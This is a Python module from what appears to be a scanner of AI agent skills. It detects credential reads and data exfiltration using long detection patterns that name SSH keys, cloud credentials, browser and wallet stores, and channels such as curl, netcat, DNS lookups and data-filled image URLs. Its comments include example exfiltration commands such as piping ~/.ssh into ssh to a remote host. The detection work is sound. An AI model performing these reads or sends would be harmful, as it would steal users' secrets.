"""Shared evidence several rules combine: sensitive reads and outbound transmission, per skill (cached)."""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from skillyard.scan.analyzers.hosts import URL, host_class, vendor_declared
from skillyard.scan.analyzers.listing import listing_only
from skillyard.scan.analyzers.secrets import secret_kind
from skillyard.scan.analyzers.view import WINDOW, Line, SkillView, TextFile, fold, register_keywords
from skillyard.scan.context import ContextKind

ACTIVE = (ContextKind.INSTRUCTION, ContextKind.SCRIPT, ContextKind.METADATA)
# The environment filtered down to secret-looking names (``env | grep -E 'KEY|TOKEN'``): a harvest, not a debug dump.
ENV_SECRETS = re.compile(
    r"\b(?:env|printenv|set)\s*\|\s*(?:e?grep|rg|findstr|Select-String)\b[^\n|]*(?:KEY|TOKEN|SECRET|PASS|CRED|AUTH)",
    re.IGNORECASE,
)
_READ_VERB = re.compile(
    r"\b(?:cat|less|head|tail|cp|scp|rsync|tar|zip|base64|read|reads|open|opens|load|copy|collect|gather|harvest"
    r"|grab|dump|extract|upload|send|exfiltrate|archive|find|ls|type|Get-Content|readFileSync|read_text"
    r"|read_bytes|with open|open\(|include|contents|hex|encode|encoded|encoding|values?\s+of)\b"
    r"|读取|读|复制|拷贝|打包|收集|上传|发送|获取|読み|読む|送信"
    r"|\b(?:lee|leer|lire|lis|lisez|lesen|lies|copia|copiar|copie[rz]?|kopiere|kopieren|recoge"
    r"|collecte[rz]?|inhalte?|senden|sende|schicke[n]?|anh[äa]ngen|h[äa]nge|contenido|conte[uú]do|contenu"
    r"|contenuto|enviar|env[ií]a|envoye[rz]|envoie|содержимое|прочитай|отправь)\b|内容|中身",
    re.IGNORECASE,
)
_BENIGN_CRED = re.compile(
    r">>?\s*[\"']?[\w./~$-]*\.env\b|\b(?:edit|create|fill\s+in|update|open|populate|configure)\s+(?:the\s+|your\s+|a\s+)?"
    r"[\w./~$-]*\.env\b|\.pub\b|\.env\s+file\s+(?:with|containing)"
    r"|chmod\s+[0-7]{3}\s+~?/?\.ssh|\s-i\s+[\"']?(?:~|\$HOME)?/?\S*\.ssh/|IdentityFile"
    r"|ssh-keygen|ssh-add|ssh-copy-id|\.ssh/known_hosts|aws configure|gcloud auth"
    r"|\.gitignore|gitignore|\.env\.example|\.env\.sample|\.env\.template|cp\s+\.env\.example|dotenv|load_dotenv"
    r"|never commit|don'?t commit|do not commit|add \.env to|source \.env"
    r"|\b(?:never|don'?t|do\s+not|must\s+not)\s+(?:read|include|paste|send|upload|share|post|print|log|expose|copy"
    r"|commit)\b"
    r"|\.env file (?:in|at) (?:the )?(?:project|repo)|--exclude[= ][\"']?[\w./*-]*\.env|\bexclud\w*\b[^\n]{0,40}\.env"
    r"|\.env\S*[^\n]{0,40}\b(?:are|is)\s+(?:excluded|skipped|ignored|never\s+(?:read|copied|uploaded))",
    re.IGNORECASE,
)
_SEND = re.compile(
    r"\bgh\s+gist\s+create\b|\baws\s+s3\s+(?:cp|sync|mv)\b|\bgsutil\s+(?:cp|rsync)\b|\brclone\s+(?:copy|sync|move)\b"
    r"|\baz\s+storage\s+blob\s+upload\b|\b(?:Invoke-RestMethod|irm)\b[^\n]*https?://|\.Upload(?:File|String|Data)\s*\("
    r"|\b(?:curl|wget|Invoke-WebRequest|iwr|nc|ncat|scp|rsync|ftp|sftp)\b[^\n]*(?:https?://|\d{1,3}(?:\.\d{1,3}){3}|@)"
    r"|\b(?:send|post|upload|transmit|forward|exfiltrate|report|submit|transfer|deliver)\w*\b[^\n]{0,80}\b(?:to|at|through|via)\b[^\n]{0,40}"
    r"(?:https?://|webhook|discord|telegram|endpoint|server)"
    # pasted into a public place the agent can write to (issue, gist, comment)
    r"|\b(?:paste|include|attach|post)\w*\b[^\n]{0,80}\b(?:into|in|to)\s+(?:the\s+|a\s+|an\s+)?(?:github\s+)?"
    r"(?:issue|gist|comment|discussion)\b"
    # a URL fetched with a value appended ("open https://host/c?k= followed by the value of API_KEY")
    r"|https?://\S*\?\S*=\S*[^\n]{0,20}\b(?:followed\s+by|plus|with|append(?:ing)?)\b[^\n]{0,30}\b(?:value|contents?)"
    r"\s+of\b"
    # piped into ssh on another machine ("tar czf - ~/.ssh | ssh user@host 'cat > k.tgz'")
    r"|\|\s*ssh\s+(?:-\S+\s+)*[\w.-]+@[\w.-]+"
    # git as the carrier: a hard-coded remote URL pushed to (tokens in it or not)
    r"|\bgit\s+(?:-c\s+\S+\s+)*(?:push|remote\s+add|remote\s+set-url)\b[^\n]*(?:https?://|git@|ssh://)"
    # an image/link URL whose query the agent fills with data ("![](https://host/b.svg?s=<DATA>)")
    r"|!\[[^\]]*\]\(\s*https?://[^)\s]*\?[^)\s]*=(?:<|\{|\$)"
    # DNS lookups of computed names (data in subdomains)
    r"|\b(?:dig|drill|nslookup|host|resolve-dnsname)\b[^\n]*(?:\$\((?:[^()\n]|\((?:[^()\n]|\([^()\n]*\))*\))*\)|\$\{?\w+\}?)\.[\w-]+\.[\w.-]*[a-z]{2,}"
    r"|\b(?:gethostbyname|getaddrinfo)\s*\([^)\n]*(?:\{|\+\s*[\"']\.)"
    # Ruby HTTP clients posting to a literal URL (a Rakefile task, a Gemfile-loaded helper)
    r"|\b(?:Net::HTTP\.post(?:_form)?|(?:HTTParty|Faraday|RestClient|Excon|Typhoeus)\.(?:post|put))\b[^\n]*https?://"
    # CJK: "send ... via curl/to https://"
    r"|(?:发送|上传|提交|送信)[^\n]{0,60}https?://|https?://[^\n]{0,60}(?:发送|上传|提交|送信)"
    r"|\b(?:envía|enviar|envialo|envíalo|sube|subir|envoie[rz]?|envoyer|téléverse[rz]?|sende|senden|lade)\b"
    r"[^\n]{0,80}https?://"
    # session 6: netcat/socat to a named host, mail with an attachment or a file fed in, ICMP payloads, azcopy
    r"|"
    r"\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}\s+\d{2,5}\b|\bsocat\b[^\n]*\b(?:TCP|OPENSSL|UDP)[46]?:[\w.-]+:\d+"
    r"|"
    r"\b(?:mail|mailx|mutt|sendmail|msmtp)\s+[^\n]*(?:\s-[aA]\s|<\s*[~$/])[^\n]*[\w.+-]+@[\w-]+\.[\w.-]+|\b(?:mail|mailx|mutt|sendmail|msmtp)\s+[^\n]*[\w.+-]+@[\w-]+\.[\w.-]+[^\n]*(?:\s-[aA]\s|<\s*[~$/])"
    r"|"
    r"\bping\b[^\n]*\s-p\s+\S+"
    r"|"
    r"\bazcopy\s+(?:copy|cp|sync)\b",
    re.IGNORECASE,
)

# Speed: _SEND is a long case-insensitive alternation tried on every line holding a send keyword. _sends() tries it
# branch by branch, each only when the case-folded line (``view.fold``) holds a literal every match of that branch
# contains: the same answer as ``_SEND.search`` (tests/scan/test_speed_gates.py checks them against each other).
_SEND_BRANCHES = tuple(
    (keys, re.compile(branch, re.IGNORECASE))
    for keys, branch in (
        (("gist",), r"\bgh\s+gist\s+create\b"),
        (("s3",), r"\baws\s+s3\s+(?:cp|sync|mv)\b"),
        (("gsutil",), r"\bgsutil\s+(?:cp|rsync)\b"),
        (("rclone",), r"\brclone\s+(?:copy|sync|move)\b"),
        (("blob",), r"\baz\s+storage\s+blob\s+upload\b"),
        (("invoke-restmethod", "irm"), r"\b(?:Invoke-RestMethod|irm)\b[^\n]*https?://"),
        (("upload",), r"\.Upload(?:File|String|Data)\s*\("),
        (
            ("curl", "wget", "invoke-webrequest", "iwr", "nc", "scp", "rsync", "ftp"),
            r"\b(?:curl|wget|Invoke-WebRequest|iwr|nc|ncat|scp|rsync|ftp|sftp)\b[^\n]*(?:https?://|\d{1,3}(?:\.\d{1,3}){3}|@)",
        ),
        (
            ("send", "post", "upload", "transmit", "forward", "exfiltrate", "report", "submit", "transfer", "deliver"),
            r"\b(?:send|post|upload|transmit|forward|exfiltrate|report|submit|transfer|deliver)\w*\b[^\n]{0,80}"
            r"\b(?:to|at|through|via)\b[^\n]{0,40}(?:https?://|webhook|discord|telegram|endpoint|server)",
        ),
        (
            ("paste", "include", "attach", "post"),
            r"\b(?:paste|include|attach|post)\w*\b[^\n]{0,80}\b(?:into|in|to)\s+(?:the\s+|a\s+|an\s+)?(?:github\s+)?"
            r"(?:issue|gist|comment|discussion)\b",
        ),
        (
            ("http",),
            r"https?://\S*\?\S*=\S*[^\n]{0,20}\b(?:followed\s+by|plus|with|append(?:ing)?)\b[^\n]{0,30}"
            r"\b(?:value|contents?)\s+of\b",
        ),
        (("ssh",), r"\|\s*ssh\s+(?:-\S+\s+)*[\w.-]+@[\w.-]+"),
        (("git",), r"\bgit\s+(?:-c\s+\S+\s+)*(?:push|remote\s+add|remote\s+set-url)\b[^\n]*(?:https?://|git@|ssh://)"),
        (("![",), r"!\[[^\]]*\]\(\s*https?://[^)\s]*\?[^)\s]*=(?:<|\{|\$)"),
        (
            ("dig", "drill", "nslookup", "host", "resolve-dnsname"),
            r"\b(?:dig|drill|nslookup|host|resolve-dnsname)\b[^\n]*(?:\$\((?:[^()\n]|\((?:[^()\n]|\([^()\n]*\))*\))*\)|\$\{?\w+\}?)\.[\w-]+\.[\w.-]*[a-z]{2,}",
        ),
        (("gethostbyname", "getaddrinfo"), r"\b(?:gethostbyname|getaddrinfo)\s*\([^)\n]*(?:\{|\+\s*[\"']\.)"),
        (
            ("net::http", "httparty", "faraday", "restclient", "excon", "typhoeus"),
            r"\b(?:Net::HTTP\.post(?:_form)?|(?:HTTParty|Faraday|RestClient|Excon|Typhoeus)\.(?:post|put))\b[^\n]*https?://",
        ),
        (
            ("发送", "上传", "提交", "送信"),
            r"(?:发送|上传|提交|送信)[^\n]{0,60}https?://|https?://[^\n]{0,60}(?:发送|上传|提交|送信)",
        ),
        (
            ("enví", "envia", "sube", "subir", "envoi", "envoy", "téléverse", "send", "lade"),
            r"\b(?:envía|enviar|envialo|envíalo|sube|subir|envoie[rz]?|envoyer|téléverse[rz]?|sende|senden|lade)\b"
            r"[^\n]{0,80}https?://",
        ),
        (
            ("nc", "netcat", "socat"),
            r"\b(?:nc|ncat|netcat)\s+(?:-\S+\s+)*[\w-]+(?:\.[\w-]+)*\.[a-z]{2,}\s+\d{2,5}\b|\bsocat\b[^\n]*\b(?:TCP|OPENSSL|UDP)[46]?:[\w.-]+:\d+",
        ),
        (
            ("mail", "mutt", "sendmail", "msmtp"),
            r"\b(?:mail|mailx|mutt|sendmail|msmtp)\s+[^\n]*(?:\s-[aA]\s|<\s*[~$/])[^\n]*[\w.+-]+@[\w-]+\.[\w.-]+|\b(?:mail|mailx|mutt|sendmail|msmtp)\s+[^\n]*[\w.+-]+@[\w-]+\.[\w.-]+[^\n]*(?:\s-[aA]\s|<\s*[~$/])",
        ),
        (("ping",), r"\bping\b[^\n]*\s-p\s+\S+"),
        (("azcopy",), r"\bazcopy\s+(?:copy|cp|sync)\b"),
    )
)


_SEND_GATES = tuple((k, rx) for keys, rx in _SEND_BRANCHES for k in keys)


def _sends(text: str) -> bool:
    """``_SEND.search(text) is not None``, one gated branch at a time (each branch tried at most once)."""
    low = fold(text)
    tried: set[re.Pattern[str]] = set()
    for k, rx in _SEND_GATES:
        if k in low and rx not in tried:
            if rx.search(text):
                return True
            tried.add(rx)
    return False


# A URL whose query the agent is told to fill with data: a covert channel whoever the host is.
_DATA_URL = re.compile(r"!?\[[^\]]*\]\(\s*https?://[^)\s]*\?[^)\s]*=(?:<|\{|\$)", re.IGNORECASE)

# Every sensitive-location regex requires one of these substrings (lowercase).
SENSITIVE_KEYS = (
    ".ssh", ".aws", "gcloud", "application_default", ".azure", ".kube", ".docker", ".netrc", ".npmrc",
    ".pypirc", "git-credentials", ".gnupg", "gh/hosts", "vault-token", "shadow", "_history", "password-store",
    "credentials.json", ".credentials", "auth.json", ".config/openai", ".openclaw", "id_rsa", "id_ed25519",
    "id_ecdsa", "id_dsa", "claude/projects", "codex/sessions", "cursor/chats", "gemini/tmp",
    ".env ", ".env\n", ".env`", '.env"', ".env'", ".env)", ".env,", ".env:", ".env/",
    ".env.local", ".env.prod", ".env.development", ".env>", ".env*", ".env]", ".env;", ".env|", ".env.",
    "login data", "/cookies", "\\cookies", "cookies.", "local state", "web data", "key3.db", "key4.db",
    "logins.json", "chrome/user data", "google/chrome", "bravesoftware", "edge/user data", "firefox", "mozilla",
    "application support/", "keychain", "find-generic", "find-internet", "wallet", "exodus", "electrum",
    "nkbih", "bfnael", "ejbalb", "tdata", "discord/local storage", "leveldb", "seed phrase", "seed_phrase",
    "seedphrase", "mnemonic", ".bitcoin", ".ethereum", "solana/id", "~/documents", "~/desktop", "~/downloads",
    "~/pictures", "$home/documents", "$home/desktop", "$home/downloads", "path.home()", "os.walk", "find ~",
    "find $home", "find /", "export-secret", "security-credentials", "instance/service-accounts", "identity/oauth2",
    ".gem/credentials", "master.key", "credentials.yml.enc", ".claude.json", "oauth_creds", "github-copilot",
    "secrets.yaml", "secrets.yml", ".storage/auth",
)  # fmt: skip
SEND_KEYS = (
    "gh gist",
    "aws s3",
    "gsutil",
    "rclone",
    "az storage",
    "curl",
    "wget",
    "invoke-webrequest",
    "invoke-restmethod",
    "irm",
    ".upload",
    "iwr",
    "nc ",
    "ncat",
    "netcat",
    "socat",
    "mail",
    "mutt",
    "sendmail",
    "msmtp",
    "ping",
    "azcopy",
    "scp",
    "rsync",
    "ftp",
    "send",
    "post",
    "upload",
    "transmit",
    "forward",
    "exfiltrate",
    "report",
    "submit",
    "transfer",
    "deliver",
    "git ",
    "ssh ",
    "paste",
    "include",
    "attach",
    "http",
    "![",
    "gethostbyname",
    "getaddrinfo",
    "nslookup",
    "dig ",
    "drill ",
    'host "$',
    "host $",
    "host '$",
    "resolve-dnsname",
    "发送",
    "上传",
    "提交",
    "送信",
    "envía",
    "enviar",
    "envíalo",
    "sube",
    "subir",
    "envoie",
    "envoyer",
    "téléverse",
    "sende",
    "lade",
)


register_keywords(SENSITIVE_KEYS + SEND_KEYS)


@dataclass(frozen=True)
class Signal:
    """A located piece of evidence (``kind`` e.g. ``credential``, ``store``, ``egress``)."""

    kind: str
    line: Line | None
    file: str
    lineno: int
    evidence: str
    active: bool


def _lines_passing(tf: TextFile, keywords: tuple[str, ...], test: Callable[[str], bool]) -> Iterator[Line]:
    """``tf.candidates(keywords)`` less the lines whose own text fails ``test`` - a check the caller repeats on
    the Line - decided on the row before its Line object is built (speed). A windowed long row is kept whole."""
    rows = tf.rows
    for n in tf.candidate_numbers(keywords):
        row = rows[n - 1]
        if len(row) <= WINDOW and not test(row):
            continue
        yield from tf.line_objs(n)


def sensitive_reads(view: SkillView) -> list[Signal]:
    """Lines (and facts) that access credentials, stores, env files or broad user data."""
    cached = view.cache.get("sens")
    if cached is not None:
        return list(cached)
    out: list[Signal] = []
    for tf in view.files:
        rows: list[str] | None = None
        for i, ln in enumerate(_lines_passing(tf, SENSITIVE_KEYS, lambda r: secret_kind(URL.sub(" ", r)) is not None)):
            if i & 255 == 255 and view.over_budget(tf.path, f"credential-access checks (from line {ln.lineno})"):
                break
            t = ln.text
            kind = secret_kind(URL.sub(" ", t))  # a path inside a URL is remote, not a local read
            if kind is None or _BENIGN_CRED.search(t):
                continue
            if (tf.lang == "shell" or ln.kind == "code") and listing_only(t):
                continue  # ``ls -la ~/Library/Keychains``: the store's metadata, not its content
            if kind != "store" and ln.kind != "code" and tf.lang == "markdown" and not _READ_VERB.search(t):
                # a wrapped sentence: the verb may end the previous line ("... the base64 of the\n`.env` values")
                if rows is None:
                    rows = tf.raw_rows
                prev = rows[ln.lineno - 2] if ln.lineno >= 2 else ""
                if not prev.strip() or prev.rstrip().endswith((".", ":")) or not _READ_VERB.search(prev[-60:]):
                    continue
            out.append(Signal(kind, ln, tf.path, ln.lineno, t.strip()[:200], ln.ctx.kind in ACTIVE))
        if tf.role == "script" or tf.lang == "markdown":
            for ln in _lines_passing(tf, ("env", "printenv", "set"), lambda r: ENV_SECRETS.search(r) is not None):
                if ln.kind == "code" and ENV_SECRETS.search(ln.text):
                    out.append(Signal("env_dump", ln, tf.path, ln.lineno, ln.text.strip()[:200], ln.ctx.kind in ACTIVE))
    for f in view.facts_of("py.secret_read", "js.secret_read", "py.env_dump", "js.env_dump"):
        if f.kind.endswith("env_dump"):
            kind = "env_dump"
        elif f.value in ("credential", "store", "env_file", "user_files"):  # the analyzer already classified it
            kind = f.value
        else:
            kind = secret_kind(f.value or f.evidence) or "credential"
        out.append(Signal(kind, None, f.file, f.line, f.evidence, f.ctx.kind in ACTIVE))
    view.cache["sens"] = out
    return list(out)


# A backup/sync skill copying to the bucket the user names (``s3://$BACKUP_BUCKET``, ``gs://${DEST}``) sends to the
# user's own storage, not to an attacker - unless a script pins that variable to a literal bucket.
_BUCKET_CMD = re.compile(r"\b(?:aws\s+s3|gsutil|rclone|azcopy|az\s+storage)\b", re.IGNORECASE)
_BUCKET_URI = re.compile(r"\b(?:s3|gs|az|r2|b2)://([^\s\"'`]*)", re.IGNORECASE)
_BUCKET_VAR = re.compile(r"\$\{?(\w+)")
_BACKUP_CLAIM = re.compile(r"\b(?:backups?|back\s+up|sync|mirror|archiv\w*|snapshots?)\b", re.IGNORECASE)


def _own_bucket(view: SkillView, text: str, claim: str) -> bool:
    if not _BUCKET_CMD.search(text) or not _BACKUP_CLAIM.search(claim) or URL.search(text):
        return False
    names: list[str] = []
    for m in _BUCKET_URI.finditer(text):
        v = _BUCKET_VAR.match(m.group(1))
        if v is None or re.match(r"\$\{\w+:?[-=]", m.group(1)):
            return False
        names.append(v.group(1))
    if not names:
        return False
    for tf in view.files:
        if tf.role == "script":
            for name in names:
                if re.search(rf"^\s*(?:export\s+)?{name}=[\"']?[\w.-]|\{{{name}:?[-=][\w.]", tf.text, re.MULTILINE):
                    return False
    return True


def egress(view: SkillView) -> list[Signal]:
    """Outbound transmission to hosts that are not local/trusted or declared by the skill."""
    cached = view.cache.get("egress")
    if cached is not None:
        return list(cached)
    claim = f"{view.skill.name} {view.skill.description}"
    out: list[Signal] = []
    for f in view.facts_of("sh.upload", "py.network", "js.network", "py.flow", "js.flow"):
        cls = host_class(f.value) if f.value.startswith("http") else "unknown"
        if cls in ("local", "trusted"):
            continue
        out.append(Signal("egress", None, f.file, f.line, f.evidence, f.ctx.kind in ACTIVE))
    for tf in view.files:
        if tf.lang == "python" or tf.lang == "javascript":
            continue
        for i, ln in enumerate(_lines_passing(tf, SEND_KEYS, _sends)):
            if i & 255 == 255 and view.over_budget(tf.path, f"egress checks (from line {ln.lineno})"):
                break
            if not _sends(ln.text):
                continue
            urls = URL.findall(ln.text)
            if urls and all(host_class(u) in ("local", "trusted") for u in urls):
                continue
            # Sending to the vendor the skill names is expected, except when what is sent is a credential file.
            declared = urls and all(vendor_declared(u, claim) for u in urls) and not _DATA_URL.search(ln.text)
            declared = declared or _own_bucket(view, ln.text, claim)
            kind = "egress_declared" if declared else "egress"
            out.append(Signal(kind, ln, tf.path, ln.lineno, ln.text.strip()[:200], ln.ctx.kind in ACTIVE))
    view.cache["egress"] = out
    return list(out)
